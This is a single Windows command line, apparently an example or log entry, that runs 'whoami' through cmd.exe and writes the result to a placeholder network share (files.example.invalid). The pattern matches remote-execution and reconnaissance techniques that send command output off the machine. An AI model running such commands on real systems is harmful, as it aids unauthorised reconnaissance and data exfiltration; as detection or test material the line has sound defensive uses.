cmd.exe /Q /c whoami 1> \\files.example.invalid\logs\a.txt
